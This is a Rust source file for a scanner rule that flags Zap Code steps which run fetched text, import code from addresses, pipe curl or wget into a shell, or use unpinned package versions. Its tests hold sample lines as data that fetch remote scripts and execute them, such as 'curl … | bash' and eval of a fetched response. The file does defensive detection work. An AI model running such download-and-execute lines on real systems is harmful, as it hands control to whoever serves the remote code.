//! Z804: code that loads the code of others, or packages that change by themselves.

use crate::{
    code::{Code, Language},
    rules::prelude::*,
    zap::Field,
};

pub(in crate::rules) const RULE: Rule = Rule {
    id: "Z804",
    name: "remote-or-unpinned-code",
    measure: Measure::Vendors,
    title: "Code loads foreign code that can change",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    persona: Persona::Regular,
    what: "A Code step runs text it fetched, imports from an address, starts programs, or uses a package without an exact version.",
    why: "Whoever controls that source, or takes it over one day, runs code of theirs with all the data of this Zap.",
    fix: "Give each package an exact version such as 4.17.21, or paste the few lines that are needed. Never run text that was fetched.",
    references: &["CWE-829", "CWE-494", "CWE-1357", "CD-SEC-06"],
    check,
};

fn check(facts: &Facts<'_>, outcomes: &mut Outcomes) {
    for facts in facts.of_product(Product::Code) {
        if let Some(code) = &facts.code {
            outcomes.looked();
            foreign_code(facts, code, outcomes);
        }
        packages(facts, outcomes);
    }
}

fn foreign_code(facts: &StepFacts<'_>, code: &Code, outcomes: &mut Outcomes) {
    let source = facts.step.field("code").map_or("", Field::text);
    let mut worst: Option<(Severity, Said, &str)> = None;
    for danger in code.dynamic_code() {
        let call = source.get(danger.range.clone()).unwrap_or_default();
        let (severity, message) = match danger.kind {
            "import from address" => {
                (Severity::High, say!("The code imports foreign code from an address and runs it."))
            }
            "eval" | "new Function" | "exec" | "vm.run" | "pickle.loads" | "marshal.loads" | "yaml.load"
                if danger.with_response =>
            {
                (Severity::High, say!("The code runs what it fetched from an address."))
            }
            "child_process" if pipes_to_shell(source) => {
                (Severity::High, say!("The code downloads a script and runs it."))
            }
            "child_process" => (Severity::Medium, say!("The code starts other programs.")),
            "os.system" | "os.popen" | "subprocess" if pipes_to_shell(call) => {
                (Severity::High, say!("The code downloads a script and runs it."))
            }
            "os.system" | "os.popen" | "subprocess" if installs(call) => {
                (Severity::Medium, say!("The code installs a package each time it runs."))
            }
            _ => continue,
        };
        if worst.as_ref().is_none_or(|(known, ..)| severity > *known) {
            worst = Some((severity, message, call));
        }
    }
    if let Some((severity, message, call)) = worst {
        outcomes.find(Place::field(facts.step, "code"), message).severity(severity).evidence(call);
    }
}

/// `curl https://… | sh`.
fn pipes_to_shell(text: &str) -> bool {
    let fetches = text.contains("curl ") || text.contains("wget ");
    fetches
        && text.split('|').skip(1).any(|command| {
            let first = command.trim_start().split(|char: char| !char.is_ascii_alphanumeric()).next();
            matches!(first, Some("sh" | "bash" | "zsh" | "node" | "python" | "python3"))
        })
}

/// `pip install …`, as one text or as a list of arguments.
fn installs(call: &str) -> bool {
    ["pip", "pip3", "npm", "npx", "easy_install"].iter().any(|tool| call.contains(tool))
        && ["install", "npx", "easy_install"].iter().any(|verb| call.contains(verb))
}

/// Packages by name and version: `packages.lodash` = `^4`.
fn packages(facts: &StepFacts<'_>, outcomes: &mut Outcomes) {
    let step = facts.step;
    if step.field("packages_enabled").and_then(Field::switch) == Some(false) {
        return;
    }
    let language = facts.code.as_ref().map_or(Language::JavaScript, Code::language);
    let mut listed: Option<&str> = None;
    for field in step.fields.iter().filter(|field| field.group() == "packages") {
        let Some(text) = field.literal().map(str::trim) else {
            continue;
        };
        match field.key.split_once('.').map(|(_, name)| name) {
            // A list of pairs.
            Some("name") => listed = Some(text),
            Some("version") if listed.is_some() => {
                tell(step, field, listed.take().unwrap_or_default(), text, language, outcomes)
            }
            Some(name) => tell(step, field, name, text, language, outcomes),
            // A list of `name@version`.
            None => {
                for item in text.split([',', '\n']).map(str::trim).filter(|item| !item.is_empty()) {
                    let at = item
                        .char_indices()
                        .skip(1)
                        .find(|(_, char)| "@=<>~^! ".contains(*char))
                        .map_or(item.len(), |(at, _)| at);
                    let (name, version) = item.split_at_checked(at).unwrap_or((item, ""));
                    tell(step, field, name, version.trim_start_matches(['@', ' ']), language, outcomes);
                }
            }
        }
    }
    if let Some(name) = listed
        && let Some(field) = step.field("packages.name")
    {
        tell(step, field, name, "", language, outcomes);
    }
}

fn tell(step: &Step, field: &Field, name: &str, version: &str, language: Language, outcomes: &mut Outcomes) {
    if name.is_empty() || is_built_in(name) || is_exact(version, language) {
        return;
    }
    let message = if version.is_empty() {
        say!("The package “{}” has no version: each new one is taken as it comes.", name)
    } else {
        say!("The package “{}” can change by itself: “{}” is no exact version.", name, version)
    };
    outcomes
        .find(Place::field(step, &field.key), message)
        .confidence(Confidence::High)
        .evidence(format!("{name} {version}"));
}

/// One version and no other: three numbers, or what follows Python's `==`.
fn is_exact(version: &str, language: Language) -> bool {
    let version = version.trim();
    let (least, version) = match (language, version.strip_prefix("==")) {
        (Language::Python, Some(version)) => (1, version),
        (Language::Python, None) => (2, version),
        (Language::JavaScript, _) => (3, version.trim_start_matches(['=', 'v'])),
    };
    let version = version.trim();
    // `-beta.1` and `+build` belong to one version, too.
    let core = version.split(['-', '+']).next().unwrap_or(version);
    let is_part = |part: &str| {
        let digits = part.bytes().take_while(u8::is_ascii_digit).count();
        // `2.0rc1` of Python.
        digits > 0 && part.bytes().skip(digits).all(|byte| byte.is_ascii_alphanumeric() && byte != b'x')
    };
    core.split('.').count() >= least && core.split('.').all(is_part) && !version.contains(char::is_whitespace)
}

/// Comes with the language and has no version of its own.
fn is_built_in(name: &str) -> bool {
    const NODE: [&str; 16] = [
        "assert", "buffer", "crypto", "events", "fs", "http", "https", "os", "path", "querystring", "stream", "url",
        "util", "zlib", "dns", "net",
    ];
    const PYTHON: [&str; 18] = [
        "json", "re", "datetime", "os", "sys", "math", "random", "hashlib", "hmac", "base64", "time", "urllib",
        "collections", "itertools", "csv", "io", "uuid", "string",
    ];
    name.starts_with("node:") || NODE.contains(&name) || PYTHON.contains(&name)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn packages_without_an_exact_version_are_found() {
        for version in
            ["^4", "~4.17.0", "4", "4.17", "latest", "*", ">=4.17.21", "4.x", "4.17.x", "1.0.0 - 2.0.0", "next", ""]
        {
            finds(
                &RULE,
                steps![
                    hook(),
                    javascript("return {}").field("packages_enabled", true).field("packages.lodash", version)
                ],
                &[(2, "packages.lodash", Severity::Medium)],
            );
        }
        for version in [">=2.31", "~=2.31.0", "2", "2.*", "==2.*"] {
            finds(
                &RULE,
                steps![
                    hook(),
                    python("output = {}").field("packages_enabled", "True").field("packages.pandas", version)
                ],
                &[(2, "packages.pandas", Severity::Medium)],
            );
        }
        finds(
            &RULE,
            steps![
                hook(),
                javascript("return {}").field("packages", json!(["lodash@^4", "axios@1.7.2", "@scope/x@1"]))
            ],
            &[(2, "packages", Severity::Medium), (2, "packages", Severity::Medium)],
        );
        finds(
            &RULE,
            steps![
                hook(),
                javascript("return {}").field(
                    "packages",
                    json!([{"name": "lodash", "version": "4"}, {"name": "axios", "version": "1.7.2"}])
                )
            ],
            &[(2, "packages.version", Severity::Medium)],
        );
    }

    #[test]
    fn foreign_code_is_found() {
        let high = [(2, "code", Severity::High)];
        for code in [
            "const r = await fetch('https://x.example.com/a.js'); eval(await r.text())",
            "const r = await fetch('https://x.example.com/a.js'); const t = await r.text(); return new Function(t)()",
            "fetch('https://x.example.com/a.js').then(r => r.text()).then(eval)",
            "const x = await import('https://esm.example.com/x.js')",
            "import x from 'https://esm.example.com/x@1.0.0'",
            "const { exec } = require('child_process'); exec('curl https://x.example.com/a.sh | bash')",
        ] {
            finds(&RULE, steps![hook(), javascript(code)], &high);
        }
        for code in [
            "exec(requests.get('https://x.example.com/a.py').text)",
            "src = urllib.request.urlopen('https://x.example.com/a.py').read()\nexec(src)",
            "import os\nos.system('curl -s https://x.example.com/a.sh | sh')",
        ] {
            finds(&RULE, steps![hook(), python(code)], &high);
        }
        let medium = [(2, "code", Severity::Medium)];
        finds(&RULE, steps![hook(), javascript("const { execSync } = require('node:child_process')")], &medium);
        finds(&RULE, steps![hook(), python("import subprocess\nsubprocess.run(['pip', 'install', 'x'])")], &medium);
    }

    #[test]
    fn look_alikes_are_left_alone() {
        silent(
            &RULE,
            steps![
                hook(),
                javascript("return {}").field("packages_enabled", true).field("packages", json!({})),
                javascript("return {}")
                    .field("packages_enabled", true)
                    .field("packages.lodash", "4.17.21")
                    .field("packages.zod", "=3.23.8-beta.1"),
                javascript("return {}").field("packages_enabled", false).field("packages.lodash", "^4"),
                javascript("return {}").field("packages_enabled", true).field("packages.crypto", "*"),
                python("output = {}")
                    .field("packages_enabled", true)
                    .field("packages.pandas", "==2.2")
                    .field("packages.x", "2.0.1"),
                javascript("const crypto = require('crypto'); const _ = require('lodash'); return {}"),
                javascript("const m = /a/.exec(inputData.x); // eval(fetch('x'))"),
                javascript("const r = await fetch('https://x.example.com/a.json'); return JSON.parse(await r.text())"),
                python("import ast\nx = ast.literal_eval(requests.get('https://x.example.com').text)"),
                python("os.system('echo pipe')"),
            ],
        );
    }
}
